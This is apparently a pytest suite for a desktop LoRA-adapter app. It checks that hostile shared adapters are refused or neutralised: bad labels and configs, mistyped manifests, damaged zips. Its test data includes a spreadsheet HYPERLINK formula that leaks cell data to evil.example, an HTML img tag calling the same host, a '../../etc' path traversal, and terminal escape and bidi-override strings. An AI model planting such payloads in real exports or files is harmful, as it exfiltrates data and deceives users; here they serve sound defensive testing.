"""Issue 8, hostile adapters: labels that inject, configs that exhaust memory or change the model,
manifests with fields of the wrong type, and every way a shared zip can be damaged."""

import json
import shutil
import struct
import zipfile

import pytest
from hostile import edit_json, one_line_error

from desktop_app.cli import main
from desktop_app.core.artifacts.adapters import export_adapter_zip
from desktop_app.core.base.errors import AdapterError
from desktop_app.core.predict.inference import Classifier
from desktop_app.core.artifacts.manifest import Manifest

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def _manifest_with(adapter, **changes):
    path = adapter / "manifest.json"
    data = json.loads(path.read_text())
    for key, value in changes.items():
        outer, _, inner = key.partition(".")
        if inner:
            data[outer][inner] = value
        else:
            data[outer] = value
    path.write_text(json.dumps(data))


# ---------------------------------------------------------------- 4. labels that inject
@pytest.mark.parametrize("labels", [
    ["\x1b[2J\x1b[31mpwned", "pos"],          # terminal escape sequences
    ["neg\u202etxt.exe", "pos"],              # bidi override
    ["neg", "pos\x00"],                       # NUL
    ["x" * 101, "pos"],                       # unbounded length
    [None, True], [2.5, "pos"], ["neg", ""],  # not text
    ["neg", "neg"], ["only-one"], "neg,pos",
])
def test_manifest_labels_must_be_printable_text(adapter_copy, labels, capsys):
    _manifest_with(adapter_copy, labels=labels)
    with pytest.raises(AdapterError, match="manifest is invalid"):
        Classifier.load(adapter_copy)
    assert main(["info", str(adapter_copy)]) == 2
    one_line_error(capsys)


def test_a_formula_label_loads_but_is_never_written_as_a_formula(trained_adapter, tmp_path):
    """A label may look like a formula ("+ve" is a real label); only output cells are neutralised."""
    from desktop_app.core.predict.predict_file import predict_file

    clf = Classifier.load(trained_adapter.adapter_dir)
    clf.labels = ("+ve", FORMULA)
    clf.predict_proba = lambda texts, *a: __import__("numpy").tile([0.1, 0.9], (len(texts), 1))
    source = tmp_path / "in.csv"
    source.write_text("text\nthe film was great\n@SUM(A1)\n")
    predict_file(clf, source, tmp_path / "out.csv")
    import csv

    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8")))
    predicted = {row[1] for row in rows[1:]}
    assert predicted <= {"'" + FORMULA, "'+ve"} and "'" + FORMULA in predicted
    assert rows[2][0] == "'@SUM(A1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_html_in_a_shared_adapter_stays_text_in_the_window(qtbot, trained_adapter):
    from desktop_app.ui.panels.inference_panel import InferencePanel

    manifest = Classifier.load(trained_adapter.adapter_dir).manifest
    from dataclasses import replace

    hostile = replace(manifest, labels=("<img src='http://evil.example/x.png'>", "<b>pos</b>"))
    panel = InferencePanel()
    qtbot.addWidget(panel)
    panel.set_adapter(hostile, "<script>shared.zip")
    assert "<img" not in panel.adapter_info.text() and "&lt;img" in panel.adapter_info.text()


# ---------------------------------------------------------------- 5. adapter_config.json decides memory and maths
@pytest.mark.parametrize("change,words", [
    ({"r": 50000}, "“r” should be a whole number from 1 to 256"),
    ({"r": "16"}, "“r”"), ({"lora_alpha": 1e9}, "lora_alpha"),
    ({"init_lora_weights": "pissa"}, "init_lora_weights"), ({"init_lora_weights": "olora"}, "init_lora_weights"),
    ({"use_dora": True}, "use_dora"), ({"use_rslora": True}, "use_rslora"),
    ({"rank_pattern": {"query": 4096}}, "rank_pattern"), ({"peft_type": "IA3"}, "peft_type"),
    ({"task_type": "CAUSAL_LM"}, "task_type"), ({"target_modules": "all-linear"}, "target_modules"),
    ({"target_modules": ["query", "../../etc"]}, "target_modules"), ({"bias": "all"}, "bias"),
    ({"layers_to_transform": [10**9]}, "layers_to_transform"),
])
def test_peft_config_is_checked_before_any_tensor_is_built(adapter_copy, monkeypatch, change, words):
    monkeypatch.setattr("peft.PeftModel.from_pretrained", lambda *a, **k: pytest.fail("peft built the model"))
    monkeypatch.setattr("desktop_app.core.model.base_models.load_classifier", lambda *a, **k: pytest.fail("base model loaded"))
    edit_json(adapter_copy / "adapter_config.json", **change)
    with pytest.raises(AdapterError, match=words):
        Classifier.load(adapter_copy)


def test_peft_config_that_is_not_an_object_or_targets_a_missing_layer(adapter_copy):
    config = adapter_copy / "adapter_config.json"
    original = config.read_text()
    config.write_text("[1, 2, 3]")
    with pytest.raises(AdapterError, match="not a JSON object"):
        Classifier.load(adapter_copy)
    config.write_text(original)
    edit_json(config, target_modules=["query", "q_proj_that_does_not_exist"])
    with pytest.raises(AdapterError, match="does not have"):
        Classifier.load(adapter_copy)


# ---------------------------------------------------------------- 7. manifest fields of the wrong type
@pytest.mark.parametrize("key,value", [
    ("format_version", "x"), ("format_version", None), ("format_version", [1]), ("format_version", True),
    ("base_model.ref", 5), ("base_model.ref", ["a"]), ("base_model.fingerprint", 12345),
    ("base_model.fingerprint", "abc"), ("base_model", "embedded"),
    ("max_length", 100000), ("max_length", -5), ("max_length", True), ("max_length", "128"),
    ("metrics", "great"), ("metrics", {"validation": {"accuracy": "99%"}}),
    ("metrics", {"validation": {"accuracy": 7, "macro_f1": 0.5, "examples": 3}}),
    ("versions", ["1.0"]), ("versions", {"torch": 2}), ("files", []), ("files", {"adapter_model.safetensors": 1}),
    ("training", 3), ("truncation", {"strategy": "middle"}), ("task", "token-classification"),
    ("training", {"history": ["x"]}), ("training", {"history": [{"step": "1"}]}), ("config", {"lora": "x"}),
    ("config", {"seed": -1}), ("config", []),
    ("metrics", {"validation": {"accuracy": 0.5, "macro_f1": 0.5, "examples": 3, "per_class": [{"label": 5}]}}),
    ("metrics", {"validation": {"accuracy": 0.5, "macro_f1": 0.5, "examples": 3, "mistakes": [{"text": ["x"]}]}}),
    ("metrics", {"validation": {"accuracy": 0.5, "macro_f1": 0.5, "examples": 3, "confusion": [["x"]]}}),
    ("metrics", {"validation": {"accuracy": 0.5, "macro_f1": 0.5, "examples": 3, "labels": [None]}}),
])
def test_manifest_fields_of_the_wrong_type_are_refused_in_a_sentence(adapter_copy, key, value, capsys):
    _manifest_with(adapter_copy, **{key: value})
    for command in (["info", str(adapter_copy)], ["predict", str(adapter_copy), "--text", "hi"]):
        assert main(command) == 2
        assert "manifest" in one_line_error(capsys)


def test_manifest_round_trip_is_exact(trained_adapter):
    data = json.loads((trained_adapter.adapter_dir / "manifest.json").read_text())
    assert Manifest.from_dict(data).to_dict() == data


# ---------------------------------------------------------------- 7. damaged zips
def _zip(adapter, tmp_path, name="shared.zip"):
    return export_adapter_zip(adapter, tmp_path / name)


def _corrupt_data(path, member="adapter_model.safetensors"):
    """Flip bytes inside one member's compressed data (CRC or deflate error when read)."""
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
    raw = bytearray(path.read_bytes())
    name_len, extra_len = struct.unpack("<HH", raw[info.header_offset + 26:info.header_offset + 30])
    start = info.header_offset + 30 + name_len + extra_len
    for i in range(start + 10, start + min(info.compress_size - 1, 200)):
        raw[i] ^= 0x5A
    path.write_bytes(bytes(raw))


def _lie_about_size(path, member="manifest.json"):
    """Make one entry's headers declare fewer bytes than its data holds."""
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
    struct.pack_into("<I", raw, info.header_offset + 22, 10)  # local header: uncompressed size
    pos = 0
    while (pos := raw.find(b"PK\x01\x02", pos)) != -1:  # central directory entries
        name_len = struct.unpack("<H", raw[pos + 28:pos + 30])[0]
        if raw[pos + 46:pos + 46 + name_len].decode() == member:
            struct.pack_into("<I", raw, pos + 24, 10)
        pos += 4
    path.write_bytes(bytes(raw))


@pytest.mark.parametrize("damage", ["crc", "deflate", "size", "truncated", "empty", "not-a-zip"])
def test_damaged_zips_are_explained_naming_the_users_file(trained_adapter, tmp_path, capsys, damage):
    path = _zip(trained_adapter.adapter_dir, tmp_path, "friend's model.zip")
    if damage == "crc":
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as zf:  # stored: only the CRC can tell
            for name in ("manifest.json", "adapter_config.json", "adapter_model.safetensors"):
                zf.write(trained_adapter.adapter_dir / name, name)
        _corrupt_data(path)
    elif damage == "deflate":
        _corrupt_data(path)
    elif damage == "size":
        _lie_about_size(path)
    elif damage == "truncated":
        path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    elif damage == "empty":
        with zipfile.ZipFile(path, "w"):
            pass
    else:
        path.write_bytes(b"this is not a zip at all")
    for command in (["info", str(path)], ["predict", str(path), "--text", "hi"]):
        assert main(command) == 2, command
        line = one_line_error(capsys)
        assert "friend's model.zip" in line and "lora-studio-" not in line and "/tmp" not in line
    with pytest.raises(AdapterError):
        Classifier.load(path)


def test_zip_with_a_duplicate_or_extra_entry_is_refused(trained_adapter, tmp_path):
    path = tmp_path / "dup.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.write(trained_adapter.adapter_dir / "manifest.json", "manifest.json")
        zf.writestr("manifest.json", "{}")
    with pytest.raises(AdapterError, match="unexpected entry"):
        Classifier.load(path)


def test_a_folder_adapter_survives_the_checks_untouched(adapter_copy):
    before = {p.name: p.read_bytes() for p in adapter_copy.iterdir()}
    Classifier.load(adapter_copy)
    assert {p.name: p.read_bytes() for p in adapter_copy.iterdir()} == before
    shutil.rmtree(adapter_copy)


def test_a_zip_missing_its_weights_or_with_a_wrong_checksum_names_the_users_file(trained_adapter, tmp_path, capsys):
    folder = trained_adapter.adapter_dir
    missing = tmp_path / "friend-noweights.zip"
    with zipfile.ZipFile(missing, "w") as zf:
        for name in ("manifest.json", "adapter_config.json"):
            zf.write(folder / name, name)
    wrong = tmp_path / "friend-badsum.zip"
    data = json.loads((folder / "manifest.json").read_text())
    data["files"]["adapter_model.safetensors"] = "0" * 64
    with zipfile.ZipFile(wrong, "w") as zf:
        zf.writestr("manifest.json", json.dumps(data))
        for name in ("adapter_config.json", "adapter_model.safetensors"):
            zf.write(folder / name, name)
    for path in (missing, wrong):
        assert main(["info", str(path)]) == 2
        assert path.name in one_line_error(capsys)


def test_a_max_length_beyond_the_base_model_is_refused(adapter_copy):
    _manifest_with(adapter_copy, max_length=8192)  # in range for the format, not for this 128-position model
    with pytest.raises(AdapterError, match="takes at most 128"):
        Classifier.load(adapter_copy)


def test_a_library_error_with_a_model_printout_stays_one_line(adapter_copy, capsys):
    edit_json(adapter_copy / "adapter_config.json", target_modules=["bert"])
    assert main(["predict", str(adapter_copy), "--text", "x"]) == 2
    one_line_error(capsys)
